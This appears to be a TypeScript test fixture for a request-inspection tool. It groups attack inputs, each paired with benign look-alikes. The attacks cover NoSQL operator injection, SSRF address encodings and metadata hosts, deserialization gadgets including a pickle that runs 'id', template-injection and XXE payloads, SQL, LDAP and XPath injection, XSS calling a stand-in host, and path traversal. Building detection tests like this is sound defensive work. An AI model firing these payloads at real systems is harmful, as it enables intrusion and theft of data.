import { typed } from '../request-variants/request-variant.ts'
import { type AttackSort, inJson, inQuery } from './body-attack.ts'

const form = (name: string, value: string) =>
  typed(
    `form ${name}=${value}`,
    'application/x-www-form-urlencoded',
    () => `${encodeURIComponent(name)}=${value}`,
  )
const json = (body: unknown) =>
  typed(`JSON ${JSON.stringify(body)}`, 'application/json', () => JSON.stringify(body))
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')

const queries: AttackSort = {
  sort: 'operators of MongoDB',
  attacks: [
    ...['$ne', '$gt', '$regex', '$in'].map((operator) => json({ user: 'ann', password: { [operator]: '' } })),
    json({ $where: 'this.a==1' }),
    json({ $or: [{ a: 1 }, { b: 2 }] }),
    form('a[$regex]', '.*'),
    form('a[b][$nin]', '1'),
    inQuery('{"password":{"$ne":null}}'),
  ],
  ordinary: [
    json({
      $schema: 'https://json-schema.org/draft/2020-12/schema',
      $ref: '#/a',
      $id: 'x',
      $type: 'Shop.Order',
    }),
    json({ selector: { price: { $gt: 10 } } }),
    { name: 'OData', target: () => '/?$filter=a%20eq%201&$top=1', isOrdinary: true },
    inJson('It costs $in or $ne'),
  ],
}

const addresses: AttackSort = {
  sort: 'addresses that a server is to ask, in odd notations',
  attacks: [
    ...[
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '0',
      '0x7f.0.0.0x1',
      '017700000001',
      '0300.0250.1.1',
    ],
    ...['[::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:127.0.0.1]', '[fd00:ec2::254]'],
    ...['127.0.0.1.nip.io', '7f000001.nip.io', 'a.169-254-169-254.sslip.io', 'localtest.me'],
    ...['metadata.google.internal', '①②⑦.⓪.⓪.①', '127。0。0。1', 'a@127.1', 'example.org@2130706433'],
  ]
    .map((host) => `http://${host}/latest`)
    .concat(
      'HTTP:\\\\2852039166/',
      'gopher://e.example:6379/_x',
      'dict://e.example:1/',
      'jar:http://e.example/a!/',
    )
    .flatMap((url) => [inQuery(url), inJson(url)]),
  ordinary: [
    ...[
      'https://example.org/a?b=1',
      'http://1000.example.com/',
      'https://ann@example.org:8443/',
      '2130706433',
    ],
    ...['https://[2001:db8::1]/', 'see http://e.example/2130706433', 'see http://localhost:3000/'],
  ].flatMap((url) => [inQuery(url), inJson(url)]),
}

const java = Buffer.from('aced0005737200176a6176612e7574696c2e5072696f7269747951756575', 'hex').toString(
  'latin1',
)
const net = `${Buffer.from('0001000000ffffffff01000000000000000c02000000', 'hex').toString('latin1')}ISystem.Management`
const pickle =
  '\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.'
/** The same with plus signs in its Base64, which forms have for blanks. */
const pickleWithPluses = pickle.replace('\x1e\0\0', '\xfb\xef\xbe')

const objects: AttackSort = {
  sort: 'serialized objects',
  attacks: [
    ...[
      java,
      net,
      `\xff\x012${net}`,
      pickle,
      pickleWithPluses,
      "cos\nsystem\n(S'id'\ntR.",
      '\x04\bo:\x15Gem::Requirement',
    ].flatMap((one) => [
      inJson(base64(one)),
      inQuery(base64(one)),
      typed(`text ${base64(one)}`, 'text/plain', () => base64(one)),
      { name: `cookie ${base64(one)}`, headers: ['Cookie', `a=${base64(one)}`], isOrdinary: true },
    ]),
    json({ $type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework', MethodName: 'Start' }),
    json({ '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'x', autoCommit: true }),
    json(['org.springframework.context.support.ClassPathXmlApplicationContext', 'http://e.example/a.xml']),
    typed('YAML of Python', 'application/yaml', () => '!!python/object/apply:os.getcwd []'),
    typed('YAML of Ruby', 'application/yaml', () => '--- !ruby/object:Gem::Installer {}'),
  ],
  ordinary: [
    inJson('gASk me anything about it, or gAI'),
    inJson(base64('\x80\x04\x95\x0b\0\0\0\0\0\0\0}\x94\x8c\x01a\x94K\x01s.')),
    inJson('/wEPDwUKMTY3NzE5OTIyNmRk'),
    inJson(base64('\x04\b{\x06:\x06ai\x06')),
    json({ '@context': 'https://schema.org', '@type': 'Person', name: 'Ann' }),
    json({ '@type': 'type.googleapis.com/google.protobuf.Duration', value: '1s' }),
    json({ $type: 'System.Collections.Generic.List`1[[System.String]], mscorlib', $values: ['a'] }),
    typed('YAML', 'application/yaml', () => 'a: !!str 1\nb: [c, d]\n'),
  ],
}

const templates: AttackSort = {
  sort: 'templates',
  attacks: [
    ...['{{7*7}}', `\${7*7}`, '#{7*7}', '<%= 7*7 %>', '*{7*7}', '@(7*7)', "{{7*'7'}}", '%{7*7}'],
    ...['{{config.items()}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{lipsum.__globals__.os}}'],
    ...['{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}', "{{ ''|attr('__class__') }}"],
    ...[
      "{{''['__cla'+'ss__']}}",
      "{{['id']|filter('system')}}",
      '{{ dump(app) }}',
      '{{range.constructor("1")()}}',
    ],
    ...[
      "{{_self.env.registerUndefinedFilterCallback('exec')}}",
      "{{constructor.constructor('return process')()}}",
    ],
    ...["#{root.process.mainModule.require('child_process')}", '{{#with "s" as |string|}}{{/with}}'],
  ].flatMap((text) => [inJson(text), inQuery(text)]),
  ordinary: [
    ...['{{name}}', 'Hello {{ user.first_name }}', '{{Infobox country|name=Chad}}', '{% if a %}b{% endif %}'],
    ...[
      '{{#if a}}x{{/if}}',
      '#{id}',
      '<%= name %>',
      '{{ price | currency }}',
      '5*5',
      "{{ config(materialized='x') }}",
    ],
  ].map(inJson),
}

const inclusions: AttackSort = {
  sort: 'documents of XML that have others included',
  attacks: [
    typed(
      'XInclude',
      'application/xml',
      () => '<q xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://e.example/a.xml"/></q>',
    ),
  ],
  ordinary: [typed('XML', 'application/xml', () => '<q xmlns:a="http://www.w3.org/1999/xlink"><b>1</b></q>')],
}

const endsOfStrings: AttackSort = {
  sort: 'ends of strings with something behind them',
  attacks: [
    ...["admin'--", "admin'-- -", "admin' #", "x'); --", 'admin" --'],
    ...["x' or name()='username' or 'x'='y", "' or count(//user)>0 or 'a'='b", 'count(/child::node())'],
    ...['*(|(mail=*))', '*(|(objectclass=*))', '*)(uid=*', 'admin)(&)', '*)(!(&(a=*'],
    ...[
      "\\\";alert('x');//",
      "';alert(1)//",
      "'-alert(1)-'",
      '"+fetch(`//e.example`)+"',
      "';d=document.cookie//",
    ],
    ...["';exit(md5('a'));//", "\".exit(md5('a'));#", "a;exit(md5('a'));//", "';d=new Date();while(1);//"],
    ...[
      '..\\..\\boot.ini',
      '..\\boot.ini',
      '....//....//etc/services',
      '..%c0%afboot.ini',
      '%252e%252e%255cboot.ini',
    ],
    ...['..%u2216boot.ini', '0x2e0x2e0x2fboot.ini'],
  ].flatMap((text) => [inJson(text), inQuery(text)]),
  ordinary: [
    ...["It's -- well, what it is", 'He said "no" -- and left', "rock'n'roll #1", "the girls' #music", 'C#'],
    ...['/child/1', "name() is 'x' or 'y'", '(|(mail=a@e.example)(uid=a))', 'both (a) and (b)'],
    ...[
      "'a', alerts and prompts (two)",
      "it's; document the windows",
      'a; b(c) // what it does',
      'f(); // done',
    ],
    ...[
      'Wait... // then',
      '3.5..4.0',
      'C:\\a\\..b',

      '100%25 off',
      'a\\.\\b',
      "l'art, c'est (un) #hashtag",
    ],
  ].map(inJson),
}

/** What the reader of XML tells of. */
export const inDocuments: readonly AttackSort[] = [
  {
    sort: 'documents of XML whose type stands elsewhere',
    attacks: [
      '<!DOCTYPE q SYSTEM "http://e.example/q.dtd"><q/>',
      '<!DOCTYPE q PUBLIC "-//W3C//DTD" "http://e.example/www.w3.org/q.dtd"><q/>',
      '<!DOCTYPE q [<!ENTITY % p SYSTEM "http://e.example/q.dtd">%p;]><q/>',
      '<!DOCTYPE q [<!ENTITY a SYSTEM "file:///etc/hostname">]><q/>',
    ].flatMap((text) =>
      ['application/xml', 'text/plain', undefined, 'application/x-www-form-urlencoded'].map((type) =>
        typed(`${type} ${text}`, type, () => text),
      ),
    ),
    ordinary: [
      '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>',
      '<!DOCTYPE q [<!ELEMENT q (#PCDATA)>]><q>1</q>',
    ].map((text) => typed(text, 'application/xml', () => text)),
  },
]

/** What rules of ours find. */
export const inValues: readonly AttackSort[] = [
  queries,
  addresses,
  objects,
  templates,
  inclusions,
  endsOfStrings,
]
